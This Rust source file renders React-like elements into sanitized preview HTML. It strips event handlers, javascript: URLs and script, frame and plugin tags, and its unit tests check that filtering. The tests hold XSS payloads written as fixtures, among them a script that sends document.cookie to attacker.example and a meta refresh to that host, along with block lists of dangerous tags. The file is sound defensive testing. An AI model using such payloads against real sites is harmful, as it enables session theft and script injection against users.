//! Turning rendered element values into a [`Node`] tree.
//!
//! Host props are filtered on the way out: event handlers, functions,
//! `dangerouslySetInnerHTML` and `javascript:` URLs never reach the HTML.
//! Elements that load or run code (`<script>`, frames, plugins, SVG
//! animation) are skipped along with their children and a warning is
//! logged instead.

use crate::element::Node;
use crate::interpreter::{Eval, Interpreter, Interrupt};
use crate::react::render_component;
use crate::value::{number_to_string, ElementKind, PropertyMap, Value};

/// Deepest element nesting a preview may produce.
const MAX_NESTING: usize = 256;

/// Style properties that take plain numbers.
const UNITLESS: &[&str] = &[
    "opacity",
    "zIndex",
    "fontWeight",
    "lineHeight",
    "flex",
    "flexGrow",
    "flexShrink",
    "order",
    "zoom",
    "gridRow",
    "gridColumn",
];

const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "poster",
    "background",
    "cite",
    "codebase",
    "data",
    "ping",
];

/// Lowercased local names of elements never rendered into a preview.
const BLOCKED_TAGS: &[&str] = &[
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "meta",
    "link",
    "noscript",
    "template",
    "portal",
    "animate",
    "set",
    "animatemotion",
    "animatetransform",
    "handler",
    "listener",
];

/// Lowercased attribute names dropped regardless of value.
const BLOCKED_ATTRIBUTES: &[&str] = &["srcdoc", "http-equiv"];

/// Mount a component: call it with empty props and mount what it returns.
pub fn mount_component(interp: &mut Interpreter, component: &Value) -> Eval<Vec<Node>> {
    let Value::Function(func) = component else {
        return Err(Interrupt::type_error("component is not a function"));
    };
    let rendered = render_component(interp, func, Value::object(PropertyMap::new()))?;
    let mut nodes = Vec::new();
    mount_into(interp, &rendered, &mut nodes, 0)?;
    Ok(merge_text(nodes))
}

fn mount_into(interp: &mut Interpreter, value: &Value, out: &mut Vec<Node>, depth: usize) -> Eval<()> {
    if depth > MAX_NESTING {
        return Err(Interrupt::Exhausted(format!(
            "Element tree nested deeper than {MAX_NESTING} levels"
        )));
    }
    match value {
        Value::Undefined | Value::Null | Value::Bool(_) => {}
        Value::String(s) => out.push(Node::text(s.to_string())),
        Value::Number(_) => out.push(Node::text(value.to_js_string())),
        Value::Array(items) => {
            let items = items.borrow().clone();
            for item in &items {
                mount_into(interp, item, out, depth + 1)?;
            }
        }
        Value::Element(element) => match &element.kind {
            ElementKind::Host(tag) => {
                if !valid_tag(tag) {
                    return Err(Interrupt::error(
                        "Error",
                        format!("Invalid tag: {tag}"),
                    ));
                }
                if is_blocked_tag(tag) {
                    interp.log(format!("[warn] <{tag}> is not rendered in previews"));
                    return Ok(());
                }
                let attributes = host_attributes(&element.props);
                let mut children = Vec::new();
                if !Node::is_void(tag) {
                    if let Some(child) = element.props.get("children") {
                        mount_into(interp, child, &mut children, depth + 1)?;
                    }
                }
                out.push(Node::Element {
                    tag: tag.to_string(),
                    attributes,
                    children: merge_text(children),
                });
            }
            ElementKind::Fragment => {
                if let Some(child) = element.props.get("children") {
                    mount_into(interp, child, out, depth + 1)?;
                }
            }
            ElementKind::Component(func) => {
                let props = Value::object(element.props.clone());
                let rendered = render_component(interp, func, props)?;
                mount_into(interp, &rendered, out, depth + 1)?;
            }
        },
        // React warns about functions as children and renders nothing.
        Value::Function(_) | Value::Symbol(_) => {}
        Value::Host(_) => {
            return Err(Interrupt::error(
                "Error",
                "Objects are not valid as a React child (found: [object Object]).",
            ));
        }
        Value::Object(map) => {
            let keys: Vec<String> = map.borrow().keys().map(|k| k.to_string()).collect();
            return Err(Interrupt::error(
                "Error",
                format!(
                    "Objects are not valid as a React child (found: object with keys {{{}}}). If you meant to render a collection of children, use an array instead.",
                    keys.join(", ")
                ),
            ));
        }
    }
    Ok(())
}

/// Adjacent text children collapse into one text node.
fn merge_text(nodes: Vec<Node>) -> Vec<Node> {
    let mut merged: Vec<Node> = Vec::with_capacity(nodes.len());
    for node in nodes {
        match (merged.last_mut(), node) {
            (Some(Node::Text { text: last }), Node::Text { text }) => last.push_str(&text),
            (_, node) => merged.push(node),
        }
    }
    merged
}

fn valid_tag(tag: &str) -> bool {
    let mut chars = tag.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic())
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | ':' | '.' | '_'))
}

fn is_blocked_tag(tag: &str) -> bool {
    let local = tag.rsplit(':').next().unwrap_or(tag).to_ascii_lowercase();
    BLOCKED_TAGS.contains(&local.as_str())
}

fn valid_attribute_name(name: &str) -> bool {
    let mut chars = name.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || matches!(c, '_' | ':'))
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | ':' | '.' | '_'))
}

fn is_event_handler(name: &str) -> bool {
    name.len() > 2 && name.get(..2).is_some_and(|prefix| prefix.eq_ignore_ascii_case("on"))
}

fn host_attributes(props: &PropertyMap) -> Vec<(String, String)> {
    let mut attributes = Vec::new();
    for (name, value) in props.iter() {
        let name: &str = name;
        if matches!(
            name,
            "children" | "key" | "ref" | "dangerouslySetInnerHTML" | "suppressHydrationWarning"
        ) || is_event_handler(name)
            || !valid_attribute_name(name)
        {
            continue;
        }
        let lowered = name.to_ascii_lowercase();
        if BLOCKED_ATTRIBUTES.contains(&lowered.as_str()) {
            continue;
        }
        let attribute = match name {
            "className" => "class",
            "htmlFor" => "for",
            "defaultValue" => "value",
            "defaultChecked" => "checked",
            other => other,
        };
        let text = match value {
            Value::Undefined | Value::Null | Value::Function(_) | Value::Symbol(_) => continue,
            Value::Bool(false) if !is_aria_or_data(attribute) => continue,
            Value::Bool(true) if !is_aria_or_data(attribute) => String::new(),
            Value::Object(map) if attribute == "style" => {
                let css = style_to_css(&map.borrow());
                if css.is_empty() {
                    continue;
                }
                css
            }
            other => other.to_js_string(),
        };
        if URL_ATTRIBUTES.contains(&lowered.as_str()) && is_script_url(&text) {
            continue;
        }
        attributes.push((attribute.to_string(), text));
    }
    attributes
}

fn is_aria_or_data(name: &str) -> bool {
    name.starts_with("aria-") || name.starts_with("data-")
}

fn is_script_url(url: &str) -> bool {
    let normalized: String = url
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    normalized.starts_with("javascript:") || normalized.starts_with("vbscript:")
}

/// `{ backgroundColor: 'red', padding: 4 }` to `background-color:red;padding:4px`.
fn style_to_css(style: &PropertyMap) -> String {
    let mut declarations = Vec::new();
    for (name, value) in style.iter() {
        let value = match value {
            Value::Number(n)
                if n.is_finite()
                    && *n != 0.0
                    && !UNITLESS.contains(&&**name)
                    && !name.starts_with("--") =>
            {
                format!("{}px", number_to_string(*n))
            }
            Value::Number(_) | Value::String(_) => value.to_js_string(),
            _ => continue,
        };
        let value: String = value
            .chars()
            .filter(|c| !matches!(c, ';' | '<' | '>' | '"'))
            .collect();
        declarations.push(format!("{}:{}", css_property(name), value.trim()));
    }
    declarations.join(";")
}

fn css_property(name: &str) -> String {
    if name.starts_with("--") {
        return name.to_string();
    }
    let mut out = String::with_capacity(name.len() + 4);
    for c in name.chars() {
        if c.is_ascii_uppercase() {
            out.push('-');
            out.push(c.to_ascii_lowercase());
        } else {
            out.push(c);
        }
    }
    // Vendor prefix: msTransform -> -ms-transform
    if out.starts_with("ms-") {
        out.insert(0, '-');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::element::render_html;
    use crate::interpreter::Limits;
    use crate::react::runtime;
    use crate::transpile::{transpile, TranspileOptions};
    use pretty_assertions::assert_eq;

    fn mount(source: &str) -> Eval<Vec<Node>> {
        let module = transpile(source, &TranspileOptions::default()).unwrap();
        let mut interp = Interpreter::new(Limits::default());
        interp.define_global("React", runtime());
        interp.run(&module)?;
        let component = interp.default_export();
        mount_component(&mut interp, &component)
    }

    fn html(source: &str) -> String {
        render_html(&mount(source).unwrap())
    }

    #[test]
    fn mounts_nested_components_with_props() {
        let out = html(
            r#"
            const Item = ({ label, done = false }) => <li className={done ? "done" : undefined}>{label}</li>;
            exports.default = () => {
                const items = ["a", "b"];
                return (
                    <ul>
                        {items.map((item, i) => <Item key={item} label={item} done={i === 1} />)}
                    </ul>
                );
            };
            "#,
        );
        assert_eq!(out, r#"<ul><li>a</li><li class="done">b</li></ul>"#);
    }

    #[test]
    fn drops_handlers_and_script_urls() {
        let out = html(
            r#"exports.default = () => <a href=" javascript:alert(1)" onClick={() => {}} onmouseover="x()" title="t">go</a>;"#,
        );
        assert_eq!(out, r#"<a title="t">go</a>"#);
    }

    #[test]
    fn drops_dangerous_inner_html() {
        let out = html(
            r#"exports.default = () => <div dangerouslySetInnerHTML={{ __html: "<script>x</script>" }} />;"#,
        );
        assert_eq!(out, "<div></div>");
    }

    #[test]
    fn converts_style_objects() {
        let out = html(
            r#"exports.default = () => <div style={{ backgroundColor: "red", padding: 4, opacity: 0.5, margin: 0 }} />;"#,
        );
        assert_eq!(
            out,
            r#"<div style="background-color:red;padding:4px;opacity:0.5;margin:0"></div>"#
        );
    }

    #[test]
    fn boolean_attributes_and_void_elements() {
        let out = html(
            r#"exports.default = () => <label htmlFor="n"><input id="n" disabled={true} readOnly={false} aria-hidden={true} /></label>;"#,
        );
        assert_eq!(
            out,
            r#"<label for="n"><input id="n" disabled="" aria-hidden="true" /></label>"#
        );
    }

    #[test]
    fn fragments_and_conditional_children() {
        let out = html(
            r#"exports.default = () => <><span>{0}</span>{false}{null}{"x"}{" y"}</>;"#,
        );
        assert_eq!(out, "<span>0</span>x y");
    }

    #[test]
    fn object_children_are_rejected() {
        let err = mount(r#"exports.default = () => <div>{{ a: 1 }}</div>;"#).unwrap_err();
        assert!(err.message().starts_with("Objects are not valid as a React child"));
    }

    #[test]
    fn context_provider_publishes_value() {
        let out = html(
            r#"
            const Theme = React.createContext("light");
            const Label = () => <span>{React.useContext(Theme)}</span>;
            exports.default = () => <Theme.Provider value="dark"><Label /></Theme.Provider>;
            "#,
        );
        assert_eq!(out, "<span>dark</span>");
    }

    fn mount_logged(source: &str) -> (String, Vec<String>) {
        let module = transpile(source, &TranspileOptions::default()).unwrap();
        let mut interp = Interpreter::new(Limits::default());
        interp.define_global("React", runtime());
        interp.run(&module).unwrap();
        let component = interp.default_export();
        let nodes = mount_component(&mut interp, &component).unwrap();
        (render_html(&nodes), interp.console().to_vec())
    }

    #[test]
    fn script_elements_are_skipped_with_a_warning() {
        let (out, console) = mount_logged(
            r#"exports.default = () => <div><script>{"fetch('https://attacker.example/?c=' + document.cookie)"}</script><p>ok</p></div>;"#,
        );
        assert_eq!(out, "<div><p>ok</p></div>");
        assert_eq!(console, vec!["[warn] <script> is not rendered in previews".to_string()]);
    }

    #[test]
    fn frames_and_svg_scripts_are_skipped() {
        let (out, console) = mount_logged(
            r#"exports.default = () => (
                <section>
                    <iframe srcDoc="<script>parent.x()</script>" />
                    <svg><svg:script>{"alert(1)"}</svg:script><animate attributeName="href" /><circle r="1" /></svg>
                    <Meta />
                </section>
            );
            const Meta = () => <meta httpEquiv="refresh" content="0;url=https://attacker.example" />;"#,
        );
        assert_eq!(out, r#"<section><svg><circle r="1"></circle></svg></section>"#);
        assert_eq!(console.len(), 4);
        assert_eq!(console[1], "[warn] <svg:script> is not rendered in previews");
    }

    #[test]
    fn url_and_document_attributes_match_any_case() {
        let out = html(
            r#"exports.default = () => <div><a HREF="JavaScript:alert(1)">a</a><form formAction="javascript:x()" /><p srcdoc="x" http-equiv="refresh" ping="https://ok.example">p</p></div>;"#,
        );
        assert_eq!(out, r#"<div><a>a</a><form></form><p ping="https://ok.example">p</p></div>"#);
    }

    #[test]
    fn class_components_mount() {
        let out = html(
            r#"
            class Greeting extends React.Component {
                constructor(props) {
                    super(props);
                    this.state = { name: "world" };
                }
                render() { return <h1>Hello {this.state.name}</h1>; }
            }
            exports.default = Greeting;
            "#,
        );
        assert_eq!(out, "<h1>Hello world</h1>");
    }

    #[test]
    fn async_effects_do_not_block_mounting() {
        let out = html(
            r#"
            const { useEffect, useState } = React;
            async function load() {
                const data = await Promise.resolve([1, 2]);
                return data.length;
            }
            load();
            exports.default = () => {
                const [items, setItems] = useState([]);
                useEffect(() => {
                    (async () => {
                        const data = await Promise.resolve([1, 2]);
                        setItems(data);
                    })();
                }, []);
                return <p>{items.length === 0 ? "ok" : "loaded"}</p>;
            };
            "#,
        );
        assert_eq!(out, "<p>ok</p>");
    }

    #[test]
    fn css_property_names() {
        assert_eq!(css_property("backgroundColor"), "background-color");
        assert_eq!(css_property("msTransform"), "-ms-transform");
        assert_eq!(css_property("--accent"), "--accent");
    }
}
